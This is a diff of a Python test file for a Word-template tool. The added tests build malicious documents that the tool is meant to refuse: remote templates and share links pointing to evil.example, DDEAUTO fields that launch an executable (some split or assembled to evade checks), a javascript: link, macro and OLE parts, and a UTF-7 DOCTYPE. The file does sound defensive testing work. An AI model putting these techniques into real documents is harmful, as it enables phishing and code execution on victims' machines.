@@ -100,6 +100,13 @@ def test_properties_of_the_form_s_own_are_kept_and_the_stamp_replaced() -> None:
     assert names == ["Department", "kamctl"]
 
 
+def test_a_property_with_an_odd_number_is_counted_past() -> None:
+    space = f"{OFFICE.removesuffix('/relationships')}/custom-properties"
+    found = made(with_properties(f'<Properties xmlns="{space}"><property pid="x" name="Odd"/></Properties>'.encode()))
+    kept = ElementTree.fromstring(parts(found.document)["docProps/custom.xml"])
+    assert [(element.get("name"), element.get("pid")) for element in kept] == [("Odd", "x"), ("kamctl", "2")]
+
+
 def test_the_same_form_and_plan_are_the_same_bytes() -> None:
     form = word("{{ plan.client }}", header="{{ today }}")
     assert made(form).document == made(form).document
@@ -113,12 +120,60 @@ def changed(name: str, data: bytes, form: bytes | None = None) -> bytes:
     return packed(whole)
 
 
-def relation(kind: str) -> bytes:
-    whole = unpacked(word("x"))["word/_rels/document.xml.rels"]
-    line = f'<Relationship Id="rId99" Type="http://x/{kind}" Target="http://evil.example/x" TargetMode="External"/>'
-    return changed(
-        "word/_rels/document.xml.rels", whole.replace(b"</Relationships>", f"{line}</Relationships>".encode())
+PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def related(relation: str, part: str = "word/_rels/document.xml.rels", more: bytes = b"x") -> bytes:
+    """A form with one more relation, to a part of it or to something outside; `{}` in it is the space of its types."""
+    whole = unpacked(word("{{ plan.client }}"))
+    line = relation.replace("{}", OFFICE)
+    whole[part] = whole[part].replace(b"</Relationships>", f"{line}</Relationships>".encode())
+    return packed({**whole, "word/more.bin": more})
+
+
+def outside(kind: str, target: str = "http://evil.example/x", rest: str = "") -> bytes:
+    return related(f'<Relationship Id="rId99" Type="{{}}/{kind}" {rest} Target="{target}" TargetMode="External"/>')
+
+
+def inside(kind: str) -> bytes:
+    return related(f'<Relationship Id="rId99" Type="{{}}/{kind}" Target="more.bin"/>')
+
+
+def field(xml: str, after: str = "") -> bytes:
+    """A form with a field in its first paragraph."""
+    whole = unpacked(word("{{ plan.client }}"))
+    body = whole["word/document.xml"].replace(b"<w:p>", f"<w:p>{xml}".encode(), 1)
+    whole["word/document.xml"] = body.replace(b"</w:p>", f"{after}</w:p>".encode(), 1)
+    return packed(whole)
+
+
+def instructions(*pieces: str) -> str:
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    return begin + runs + end
+
+
+def typed(content_type: str) -> bytes:
+    whole = unpacked(word("x"))
+    line = f'<Override PartName="/word/more.bin" ContentType="{content_type}"/></Types>'
+    whole["[Content_Types].xml"] = whole["[Content_Types].xml"].replace(b"</Types>", line.encode())
+    return packed({**whole, "word/more.bin": b"x"})
+
+
+def with_properties(properties: bytes) -> bytes:
+    relation = '<Relationship Id="r9" Type="{}/custom-properties" Target="docProps/custom.xml"/>'
+    whole = unpacked(related(relation, "_rels/.rels"))
+    whole["[Content_Types].xml"] = whole["[Content_Types].xml"].replace(
+        b"</Types>", b'<Override PartName="/docProps/custom.xml" ContentType="application/octet-stream"/></Types>'
     )
+    return packed({**whole, "docProps/custom.xml": properties})
+
+
+def in_utf7() -> bytes:
+    whole = unpacked(word("x"))["word/document.xml"]
+    head = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4'
+    return changed("word/document.xml", head + whole.split(b"?>", 1)[1])
 
 
 def with_doctype() -> bytes:
@@ -139,8 +194,31 @@ REFUSED = {
     "many small ones": (
         packed({**unpacked(word("x")), **{f"word/media/{each}": b"" for each in range(600)}}), "more parts",
     ),
-    "a template that is fetched": (relation("attachedTemplate"), "a link to something outside"),
-    "a picture that is fetched": (relation("image"), "a link to something outside"),
+    "a document type in another encoding": (in_utf7(), "XML that is not in UTF-8"),
+    "one part twice, but for the case": (packed({**unpacked(word("x")), "WORD/document.xml": b""}), "or one twice"),
+    "macros by another name": (inside("vbaProject"), "macros, or objects"),
+    "an object by another name": (inside("oleObject"), "macros, or objects"),
+    "a page that is put in": (inside("aFChunk"), "macros, or objects"),
+    "a document of Word with macros": (typed("application/vnd.ms-word.document.macro&#69;nabled"), "macros, or"),
+    "a part that is called macros": (typed("application/vnd.ms-office.vbaProject"), "macros, or objects"),
+    "a template that is fetched": (outside("attachedTemplate"), "macros, or objects"),
+    "a picture that is fetched": (outside("image"), "a link to something outside"),
+    "one whose address has a bracket": (outside("image", rest='a="&gt;>"'), "a link to something outside"),
+    "one that calls itself a hyperlink": (outside("image", "http://x/hyperlink"), "a link to something outside"),
+    "one that is spelled in references": (
+        related('<Relationship Id="r" Type="{}/image" Target="x" TargetMode="Extern&#97;l"/>'), "something outside",
+    ),
+    "one with a prefix": (
+        related(f'<q:Relationship xmlns:q="{PACKAGE}" Id="r" Type="{{}}/image" Target="x" TargetMode="External"/>'),
+        "a link to something outside",
+    ),
+    "a link that runs": (outside("hyperlink", "javascript:alert(1)"), "leads to no page"),
+    "a link to a share": (outside("hyperlink", "file://evil.example/x"), "leads to no page"),
+    "a field that starts a program": (field(instructions(" DDEAUTO c:\\x.exe")), "a field that fetches"),
+    "one in pieces": (field(instructions(" DD", "E c:\\x.exe")), "a field that fetches"),
+    "one in one piece": (field('<w:fldSimple w:instr="INCLUDEPICTURE http://x/x.png"/>'), "a field that fetches"),
+    "one that the form writes": (field(instructions(" {{ 'DD' ~ 'EAUTO' }} c:\\x.exe")), "a field that fetches"),
+    "properties that are no XML": (with_properties(b"none"), "not those of a document of Word"),
 }  # fmt: skip
 
 
@@ -152,7 +230,9 @@ def test_a_form_with_something_inside_that_none_may_have_is_refused(data: bytes,
 
 
 def test_a_link_that_somebody_must_click_is_no_fault() -> None:
-    assert made(relation("hyperlink")).fault == ""
+    for target in ("https://example.com/", "http://example.com/", "mailto:a@example.com", "tel:+70000000000"):
+        assert made(outside("hyperlink", target)).fault == ""
+    assert made(field(instructions(" PAGE "), instructions(" NUMPAGES "))).fault == ""
 
 
 def test_what_is_broken_is_told_with_the_text_near_it() -> None:
